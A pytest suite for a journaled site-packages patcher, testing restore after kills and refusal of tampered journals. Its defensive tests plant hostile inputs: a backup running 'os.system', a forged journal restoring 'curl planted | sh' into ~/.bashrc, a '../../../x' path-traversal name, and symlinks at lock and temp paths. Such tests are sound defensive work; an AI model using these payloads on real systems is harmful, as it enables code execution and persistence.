"""The patcher changes site-packages files only under its journal and gives every byte back:
applied, committed, rolled back alone, restored, refused when it may not write, and recovered
after a kill -9 at every step of apply and restore (then any apex command restores). The journal
is not trusted for a write (a changed backup, a planted journal), a recovery that cannot complete
blocks only patching, and the patches a killed run applied for itself are restored (issue 28)."""

from __future__ import annotations

import os
import py_compile
import shutil
import signal
import subprocess
import sys
import tempfile
import textwrap
from pathlib import Path

import pytest

from apex_core.errors import ApexUserError
from apex_core.patcher import Patcher, RecoveryError, RestoreError, recover, restore, status
from apex_core.patcher import journal as jr
from apex_core.patcher.faults import FAULT_ENV, POINTS
from apex_core.patcher.files import FileState
from apex_core.patcher.journal import ROOTS_ENV, STATE_DIR_ENV
from apex_core.patcher.lock import ProcessIdentity

pytestmark = pytest.mark.site_packages  # patches transformers in this venv, or runs a model while tests do

REPO_ROOT = Path(__file__).resolve().parents[3]


def snapshot(root: Path) -> dict[str, tuple[str, int, int]]:
    """Every file and folder under ``root``: (sha256 or 'dir', mode, mtime_ns), stray temporaries included."""
    import hashlib

    found = {}
    for path in sorted(root.rglob("*")):
        stat = path.stat()
        digest = hashlib.sha256(path.read_bytes()).hexdigest() if path.is_file() else "dir"
        found[str(path.relative_to(root))] = (digest, stat.st_mode, stat.st_mtime_ns)
    return found


@pytest.fixture
def site(tmp_path: Path) -> Path:
    """A small site-packages: a package with two modules, one with compiled bytecode."""
    root = tmp_path / "site-packages"
    package = root / "toystack"
    package.mkdir(parents=True)
    (package / "__init__.py").write_text("")
    (package / "norm.py").write_text("def rms_norm(x):\n    return x\n")
    (package / "rope.py").write_text("def rope(x):\n    return x\n")
    py_compile.compile(str(package / "norm.py"), cfile=str(package / "__pycache__" / f"norm.{sys.implementation.cache_tag}.pyc"))
    os.chmod(package / "rope.py", 0o640)
    return root


@pytest.fixture
def cache(tmp_path: Path) -> Path:
    return tmp_path / "cache"


def _patcher(site: Path, cache: Path, tmp_path: Path) -> Patcher:
    return Patcher(tmp_path / "results", roots=[site], cache_dir=cache)


def test_applied_patches_stay_until_restored_and_then_every_byte_mode_and_mtime_is_back(site, cache, tmp_path):
    before = snapshot(site)
    norm, rope = site / "toystack" / "norm.py", site / "toystack" / "rope.py"
    with _patcher(site, cache, tmp_path) as patcher:
        patch = patcher.begin(task_id="toy__rms_norm", solution="solution.py")
        patcher.replace(patch, {norm: b"def rms_norm(x):\n    return 2 * x\n", rope: b"def rope(x):\n    return -x\n"})
        patcher.commit(patch)
    assert norm.read_text().endswith("2 * x\n") and oct(rope.stat().st_mode & 0o777) == "0o640"
    assert not list((site / "toystack" / "__pycache__").glob("norm.*.pyc")), "stale bytecode must not run"
    journal = status(cache, roots=[site])
    assert journal is not None and [p.state for p in journal.patches] == ["applied"]
    report = restore(cache, roots=[site])
    assert report is not None and report.files_restored == 3  # two sources and one bytecode file
    assert snapshot(site) == before and status(cache, roots=[site]) is None


def test_a_failed_patch_is_rolled_back_alone_and_the_others_kept(site, cache, tmp_path):
    before = snapshot(site)
    with _patcher(site, cache, tmp_path) as patcher:
        good = patcher.begin(task_id="toy__rope")
        patcher.replace(good, {site / "toystack" / "rope.py": b"def rope(x):\n    return -x\n"})
        patcher.commit(good)
        bad = patcher.begin(task_id="toy__rms_norm")
        patcher.replace(bad, {site / "toystack" / "norm.py": b"import nothing_here\n"})
        patcher.roll_back(bad, "import failed: No module named 'nothing_here'")
    after = snapshot(site)
    assert after["toystack/norm.py"] == before["toystack/norm.py"]
    assert after["toystack/rope.py"] != before["toystack/rope.py"]
    journal = status(cache, roots=[site])
    assert {p.id: p.state for p in journal.patches} == {good: "applied", bad: "restored"}
    assert "nothing_here" in journal.patch(bad).note
    restore(cache, roots=[site])
    assert snapshot(site) == before


def test_a_patch_left_uncommitted_is_rolled_back_when_the_session_ends(site, cache, tmp_path):
    before = snapshot(site)
    with _patcher(site, cache, tmp_path) as patcher:
        patch = patcher.begin()
        patcher.replace(patch, {site / "toystack" / "norm.py": b"x = 1\n"})
    assert snapshot(site) == before and status(cache, roots=[site]) is None


def test_a_second_patcher_is_refused_while_one_holds_the_environment(site, cache, tmp_path):
    with _patcher(site, cache, tmp_path):
        with pytest.raises(ApexUserError, match=rf"process {os.getpid()} .* is patching this Python environment"):
            _patcher(site, cache, tmp_path).open()
        assert recover(cache, roots=[site]) == [], "a live owner's journal is not recovered under it"


def test_files_outside_site_packages_are_refused_and_nothing_changes(site, cache, tmp_path):
    outside = tmp_path / "elsewhere.py"
    outside.write_text("x = 1\n")
    before = snapshot(site)
    with _patcher(site, cache, tmp_path) as patcher:
        patch = patcher.begin()
        with pytest.raises(ApexUserError, match="outside the environment's site-packages"):
            patcher.replace(patch, {site / "toystack" / "norm.py": b"y = 2\n", outside: b"x = 2\n"})
    assert snapshot(site) == before and outside.read_text() == "x = 1\n"


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give the folder to another user")
def test_a_site_packages_owned_by_another_user_is_refused_as_root(site, cache, tmp_path):
    os.chown(site / "toystack", 12345, 12345)
    before = snapshot(site)
    with _patcher(site, cache, tmp_path) as patcher:
        patch = patcher.begin()
        with pytest.raises(ApexUserError, match="belongs to user id 12345"):
            patcher.replace(patch, {site / "toystack" / "norm.py": b"y = 2\n"})
    assert snapshot(site) == before


READ_ONLY = textwrap.dedent("""
    import sys
    from pathlib import Path
    from apex_core.errors import ApexUserError
    from apex_core.patcher import Patcher
    site, results, state = (Path(a) for a in sys.argv[1:4])
    with Patcher(results, roots=[site], cache_dir=state) as patcher:
        patch = patcher.begin()
        try:
            patcher.replace(patch, {site / "toystack" / "norm.py": b"y = 2\\n"})
        except ApexUserError as error:
            print("refused:", error)
""")


def test_a_read_only_site_packages_is_refused_and_nothing_changes_for_a_user_who_is_not_root(tmp_path):
    """Root writes read-only folders, so as root the check runs as the unprivileged user nobody."""
    as_root = os.geteuid() == 0
    if as_root and not Path("/usr/bin/setpriv").exists():
        pytest.skip("running as root without setpriv: no unprivileged user to run the check as")
    top = Path(tempfile.mkdtemp(prefix="apex-readonly-", dir="/tmp" if as_root else None))  # outside root's private tmp
    try:
        os.chmod(top, 0o755)
        root = top / "site-packages"
        (root / "toystack").mkdir(parents=True)
        (root / "toystack" / "norm.py").write_text("def rms_norm(x):\n    return x\n")
        for folder in (top / "results", top / "state"):
            folder.mkdir()
        if as_root:
            for path in (top, root, root / "toystack", root / "toystack" / "norm.py", top / "results", top / "state"):
                os.chown(path, 65534, 65534)
        os.chmod(root / "toystack", 0o555)
        before = snapshot(root)
        prefix = ["/usr/bin/setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"] if as_root else []
        done = subprocess.run([*prefix, sys.executable, "-c", READ_ONLY, str(root), str(top / "results"), str(top / "state")],
                              capture_output=True, text=True, timeout=120, check=False, cwd=top,
                              env={**os.environ, "PYTHONPATH": str(REPO_ROOT), "HOME": str(top)})
        assert done.returncode == 0, done.stderr[-1500:]
        assert done.stdout.startswith("refused:") and "cannot be written" in done.stdout, done.stdout
        assert snapshot(root) == before
    finally:
        os.chmod(top / "site-packages" / "toystack", 0o755)
        shutil.rmtree(top, ignore_errors=True)


# --- kill -9 at every step ------------------------------------------------------------------------

APPLY = textwrap.dedent("""
    import sys
    from pathlib import Path
    from apex_core.patcher import Patcher
    site, results = Path(sys.argv[1]), Path(sys.argv[2])
    rounds = int(sys.argv[3]) if len(sys.argv) > 3 else 1
    for _ in range(rounds):
        with Patcher(results, roots=[site]) as patcher:
            patch = patcher.begin(task_id="toy__rms_norm")
            patcher.replace(patch, {site / "toystack" / "norm.py": b"def rms_norm(x):\\n    return 3 * x\\n",
                                    site / "toystack" / "rope.py": b"def rope(x):\\n    return 0\\n"})
            patcher.commit(patch)
        if rounds > 1:
            from apex_core.patcher import restore
            restore()
""")
RESTORE = "from apex_core.patcher import restore\nrestore()\n"


def _python(code: str, *args: str, env: dict[str, str], fault: str | None = None) -> subprocess.CompletedProcess[str]:
    full = {**env, **({FAULT_ENV: fault} if fault else {})}
    return subprocess.run([sys.executable, "-c", code, *args], env=full, capture_output=True, text=True, timeout=120, check=False)


def _apex(*args: str, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "apex_core.cli.main", *args], env=env, capture_output=True, text=True,
                          timeout=120, check=False, cwd=REPO_ROOT)


@pytest.fixture
def env(cache: Path, site: Path) -> dict[str, str]:
    return {**os.environ, "APEX_CACHE_DIR": str(cache), STATE_DIR_ENV: str(cache / "patches"), ROOTS_ENV: str(site),
            "PYTHONPATH": os.pathsep.join(filter(None, [str(REPO_ROOT), os.environ.get("PYTHONPATH", "")]))}


@pytest.mark.parametrize("point", [p for p in POINTS if p.startswith("apply:")])
def test_a_kill_at_any_step_of_apply_is_undone_by_the_next_apex_command(point, site, env, tmp_path):
    before = snapshot(site)
    killed = _python(APPLY, str(site), str(tmp_path / "results"), env=env, fault=point)
    assert killed.returncode == -signal.SIGKILL, killed.stderr
    _apex("patch", "status", env=env)  # any command: recovery runs first
    assert snapshot(site) == before


@pytest.mark.parametrize("point", [p for p in POINTS if p.startswith("restore:")])
def test_a_kill_at_any_step_of_restore_is_finished_by_the_next_apex_command(point, site, env, tmp_path):
    before = snapshot(site)
    applied = _python(APPLY, str(site), str(tmp_path / "results"), env=env)
    assert applied.returncode == 0, applied.stderr
    assert snapshot(site) != before
    killed = _python(RESTORE, env=env, fault=point)
    assert killed.returncode == -signal.SIGKILL, killed.stderr
    _apex("patch", "status", env=env)
    assert snapshot(site) == before
    assert "nothing is patched" in _apex("patch", "status", env=env).stdout


def test_kills_at_random_times_during_repeated_patching_leave_nothing_behind(site, env, tmp_path):
    import random

    before = snapshot(site)
    chooser = random.Random(20261201)
    for _ in range(4):
        process = subprocess.Popen([sys.executable, "-c", APPLY, str(site), str(tmp_path / "results"), "400"], env=env,
                                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        try:
            process.wait(timeout=0.4 + chooser.random() * 1.2)
        except subprocess.TimeoutExpired:
            process.send_signal(signal.SIGKILL)
            process.wait()
        _apex("patch", "status", env=env)
        restored = _apex("patch", "restore", env=env)
        assert restored.returncode == 0, restored.stderr
        assert snapshot(site) == before


def test_a_second_apex_run_is_refused_while_a_session_holds_the_lock(site, env, tmp_path):
    holder = subprocess.Popen([sys.executable, "-c", textwrap.dedent("""
        import sys, time
        from pathlib import Path
        from apex_core.patcher import Patcher
        with Patcher(Path(sys.argv[2]), roots=[Path(sys.argv[1])]):
            print("held", flush=True)
            time.sleep(60)
    """), str(site), str(tmp_path / "results")], env=env, stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout.readline().strip() == "held"
        refused = _apex("patch", "restore", env=env)
        assert refused.returncode == 2 and f"process {holder.pid}" in refused.stderr and "Traceback" not in refused.stderr
    finally:
        holder.kill()
        holder.wait()


# --- the journal is not trusted for writes (issue 28, class 4) ------------------------------------


def _applied(site: Path, cache: Path, tmp_path: Path, *, owned: bool = False) -> None:
    with Patcher(tmp_path / "results", roots=[site], cache_dir=cache, owned=owned) as patcher:
        patch = patcher.begin(task_id="toy__rms_norm")
        patcher.replace(patch, {site / "toystack" / "norm.py": b"def rms_norm(x):\n    return 2 * x\n"})
        patcher.commit(patch)


def test_the_journal_its_backups_and_the_snapshot_are_private(site, cache, tmp_path):
    _applied(site, cache, tmp_path)
    journal = status(cache, roots=[site])
    folder = Path(journal.folder)
    modes = {path.name: path.stat().st_mode & 0o777 for path in [folder, folder / "backups", folder / jr.JOURNAL_FILE,
                                                                  *(folder / "backups").iterdir()]}
    assert set(modes.values()) <= {0o700, 0o600} and modes[folder.name] == 0o700, modes
    (snapshot_folder,) = (cache / "patches").glob("*.snapshot")
    assert snapshot_folder.stat().st_mode & 0o777 == 0o700
    restore(cache, roots=[site])


@pytest.mark.parametrize("with_snapshot", [False, True])
def test_a_changed_backup_is_refused_before_it_is_written(with_snapshot, site, cache, tmp_path):
    """Without the session's snapshot (a session an older apex began) the backup is the only way back,
    and it is refused; with it, the original comes back from the snapshot's link instead."""
    before = snapshot(site)
    norm = site / "toystack" / "norm.py"
    _applied(site, cache, tmp_path)
    journal = status(cache, roots=[site])
    entry = next(e for e in journal.entries if e.target == str(norm))
    (Path(journal.folder) / "backups" / entry.backup).write_bytes(b"import os; os.system('planted')\n")  # as the solution did
    if not with_snapshot:
        (snapshot_folder,) = (cache / "patches").glob("*.snapshot")
        shutil.rmtree(snapshot_folder)
        with pytest.raises(RestoreError, match="was changed since it was taken .*: not written"):
            restore(cache, roots=[site])
        assert norm.read_bytes() == b"def rms_norm(x):\n    return 2 * x\n", "the changed backup was written"
        return
    restore(cache, roots=[site])
    assert snapshot(site) == before and status(cache, roots=[site]) is None


def _plant_journal(cache: Path, tmp_path: Path, target: Path) -> None:
    """A journal written by code that ran as the user: an 'open' patch whose restore would write ``target``."""
    folder = tmp_path / "planted" / "patches" / "20260101-000000-1"
    (folder / "backups").mkdir(parents=True)
    for made in (folder, folder / "backups"):
        os.chmod(made, 0o700)
    data = b"curl planted | sh\n"
    (folder / "backups" / "0000-.bashrc").write_bytes(data)
    import hashlib

    journal = jr.Journal(environment=str(jr.environment_root()), folder=str(folder), owner_pid=1, created_at=jr.now(),
                         patches=[jr.PatchRecord(id="p1-0000", state="open", created_at=jr.now())],
                         entries=[jr.JournalEntry(patch="p1-0000", target=str(target), backup="0000-.bashrc",
                                                  original=FileState(exists=True, sha256=hashlib.sha256(data).hexdigest(),
                                                                     size=len(data), mode=0o644, mtime_ns=0))])
    jr.write_journal(journal)
    jr.write_pointer(journal, cache)


def test_a_journal_is_written_where_its_pointer_says_never_where_it_claims(site, cache, tmp_path):
    home = tmp_path / "home"
    home.mkdir()
    _plant_journal(cache, tmp_path, site / "toystack" / "norm.py")  # a target inside: the journal is acted on
    folder = jr.read_pointer(cache)
    claimed = (folder / jr.JOURNAL_FILE).read_text().replace(str(folder), str(home))
    (folder / jr.JOURNAL_FILE).write_text(claimed)
    assert recover(cache, roots=[site]) == ["p1-0000"]  # a target inside site-packages: acted on, in its own folder
    assert list(home.iterdir()) == [] and jr.read_journal(folder).patches[0].state == "restored"


def test_a_backup_named_as_a_path_is_refused(site, cache, tmp_path):
    _plant_journal(cache, tmp_path, site / "toystack" / "norm.py")
    folder = jr.read_pointer(cache)
    (folder / jr.JOURNAL_FILE).write_text((folder / jr.JOURNAL_FILE).read_text().replace('"0000-.bashrc"', '"../../../x"'))
    with pytest.raises(RecoveryError, match="not a backup file name"):
        recover(cache, roots=[site])


def test_a_link_planted_at_the_lock_or_a_temporary_file_makes_no_write_land_elsewhere(site, cache, tmp_path, monkeypatch):
    from apex_core import storage

    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    norm = site / "toystack" / "norm.py"
    # A temporary's name is random; here it is known, as an attacker who guessed it would know it.
    monkeypatch.setattr(storage, "temporary_for", lambda target: target.with_name(f".{target.name}.apex-guessed.tmp"))
    with _patcher(site, cache, tmp_path) as patcher:
        (norm.parent / ".norm.py.apex-guessed.tmp").symlink_to(victim)  # where the next write's temporary goes
        patch = patcher.begin()
        patcher.replace(patch, {norm: b"y = 2\n"})
        patcher.commit(patch)
    assert victim.read_text() == "precious\n" and norm.read_bytes() == b"y = 2\n"
    lock = jr.lock_path(cache)
    lock.unlink()
    lock.symlink_to(victim)
    with pytest.raises(RecoveryError, match="patch lock"):
        recover(cache, roots=[site])
    assert victim.read_text() == "precious\n"
    lock.unlink()
    restore(cache, roots=[site])


@pytest.mark.parametrize("how", ["outside", "through a symlink"])
def test_a_planted_journal_whose_target_is_outside_site_packages_is_refused_without_writing(how, site, cache, tmp_path):
    home = tmp_path / "home"
    home.mkdir()
    if how == "outside":
        target = home / ".bashrc"
    else:  # inside site-packages as written, outside once the link is followed
        (site / "toystack" / "escape").symlink_to(home)
        target = site / "toystack" / "escape" / ".bashrc"
    _plant_journal(cache, tmp_path, target)
    with pytest.raises(RecoveryError, match="outside this environment's site-packages"):
        recover(cache, roots=[site])
    with pytest.raises(RecoveryError, match="patching is blocked"):
        Patcher(tmp_path / "results", roots=[site], cache_dir=cache).open()
    assert list(home.iterdir()) == []


def test_a_recovery_that_cannot_complete_blocks_only_patching_in_one_line(site, cache, env, tmp_path):
    home = tmp_path / "home"
    home.mkdir()
    _plant_journal(cache, tmp_path, home / ".bashrc")
    listed = _apex("tasks", "list", env=env)
    assert listed.returncode == 0 and "cpu-mini__rms_norm" in listed.stdout, listed.stderr
    warning = listed.stderr.strip().splitlines()
    assert len(warning) == 1 and warning[0].startswith("apex: warning:") and "outside this environment's" in warning[0], warning
    solution = REPO_ROOT / "apex_core" / "agents" / "canned" / "cpu-mini__rms_norm.py"
    refused = _apex("patch", "apply", "--task", "cpu-mini__rms_norm", "--solution", str(solution), "--results-dir",
                    str(tmp_path / "results"), env=env)
    said = [line for line in refused.stderr.splitlines() if line.startswith("apex:")]  # (apply's own notes aside)
    assert refused.returncode == 2 and "Traceback" not in refused.stderr, refused.stderr
    assert len(said) == 2 and said[0].startswith("apex: warning:") and said[1].startswith("apex: error:"), said
    assert "patching is blocked" in said[1] and refused.stderr.rstrip().endswith(said[1]), refused.stderr
    assert list(home.iterdir()) == []
    forgotten = _apex("patch", "restore", "--forget", env=env)
    assert forgotten.returncode == 0 and "without writing anything" in " ".join(forgotten.stdout.split()), forgotten.stderr
    assert recover(cache, roots=[site]) == [] and status(cache, roots=[site]) is None and list(home.iterdir()) == []


# --- patches a run applied for itself go when the run goes (issue 28, class 5) ---------------------

RUN = textwrap.dedent("""
    import sys
    from pathlib import Path
    from apex_core.patcher import Patcher
    site, results, owned = Path(sys.argv[1]), Path(sys.argv[2]), sys.argv[3] == "owned"
    with Patcher(results, roots=[site], owned=owned) as patcher:
        patch = patcher.begin(task_id="toy__rms_norm")
        patcher.replace(patch, {site / "toystack" / "norm.py": b"def rms_norm(x):\\n    return 4 * x\\n"})
        patcher.commit(patch)
    print("applied", flush=True)
    sys.stdin.read()  # the run goes on with its patches (the final benchmark's workers), holding no lock
""")


@pytest.mark.parametrize("owned", [True, False])
def test_a_killed_runs_own_applied_patches_are_restored_by_the_next_apex_command(owned, site, cache, env, tmp_path):
    before = snapshot(site)
    run = subprocess.Popen([sys.executable, "-c", RUN, str(site), str(tmp_path / "results"), "owned" if owned else "on-purpose"],
                           env=env, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    try:
        assert run.stdout.readline().strip() == "applied"
        assert recover(cache, roots=[site]) == [], "a live run's patches are its own"
        (patch,) = status(cache, roots=[site]).patches
        assert patch.state == "applied" and (patch.owner.pid == run.pid if owned else patch.owner is None)
    finally:
        run.kill()  # SIGKILL: nothing of the run unwinds
        run.wait()
    listed = _apex("tasks", "list", env=env)
    assert listed.returncode == 0, listed.stderr
    if owned:
        assert f"rolled back 1 patch(es)" in listed.stderr and snapshot(site) == before and status(cache, roots=[site]) is None
    else:  # applied on purpose (apex patch apply): it stays until apex patch restore
        assert status(cache, roots=[site]).patches[0].state == "applied" and snapshot(site) != before
        restore(cache, roots=[site])
        assert snapshot(site) == before


def test_a_pid_the_kernel_gave_to_another_process_is_not_mistaken_for_the_owner(site, cache, tmp_path):
    before = snapshot(site)
    _applied(site, cache, tmp_path, owned=True)  # owned by this process, which is alive
    assert recover(cache, roots=[site]) == []
    journal = status(cache, roots=[site])
    me = journal.patches[0].owner
    assert me == ProcessIdentity.current() and me.alive()
    # The same pid, started at another time: another process now has the dead owner's pid.
    journal.patches[0].owner = me.model_copy(update={"started": me.started - 1})
    jr.write_journal(journal)
    assert recover(cache, roots=[site]) == [journal.patches[0].id]
    assert snapshot(site) == before and status(cache, roots=[site]) is None


def test_a_later_patch_of_the_same_file_goes_with_the_dead_runs_patch_it_was_made_over(site, cache, tmp_path):
    before = snapshot(site)
    norm = site / "toystack" / "norm.py"
    with _patcher(site, cache, tmp_path) as patcher:
        first = patcher.begin(owned=True)
        patcher.replace(first, {norm: b"x = 1\n"})
        patcher.commit(first)
        second = patcher.begin()  # on purpose, over the run's patch
        patcher.replace(second, {norm: b"x = 2\n"})
        patcher.commit(second)
    journal = status(cache, roots=[site])
    journal.patches[0].owner = journal.patches[0].owner.model_copy(update={"started": 1})  # its run is gone
    jr.write_journal(journal)
    assert recover(cache, roots=[site]) == [second, first]
    assert snapshot(site) == before and status(cache, roots=[site]) is None


def test_a_second_session_over_the_same_files_with_another_state_folder_is_refused(site, tmp_path, monkeypatch):
    """Its snapshot would hold the first one's patches, and its restore would put them back."""
    monkeypatch.setenv(ROOTS_ENV, str(site))  # this "environment" is the toy site
    monkeypatch.setenv(STATE_DIR_ENV, str(tmp_path / "own-state"))
    before = snapshot(site)
    with Patcher(tmp_path / "results") as first:
        patch = first.begin()
        first.replace(patch, {site / "toystack" / "norm.py": b"x = 1\n"})
        first.commit(patch)
    private = tmp_path / "private-state"  # as a test's private cache_dir
    with pytest.raises(ApexUserError, match="another patch session is open over this environment"):
        Patcher(tmp_path / "results", cache_dir=private).open()
    restore()
    with Patcher(tmp_path / "results", cache_dir=private) as second:
        patch = second.begin()
        second.replace(patch, {site / "toystack" / "norm.py": b"x = 2\n"})
        second.commit(patch)
    with pytest.raises(ApexUserError, match="another patch session is open over this environment"):
        Patcher(tmp_path / "results").open()
    restore(private)
    assert snapshot(site) == before
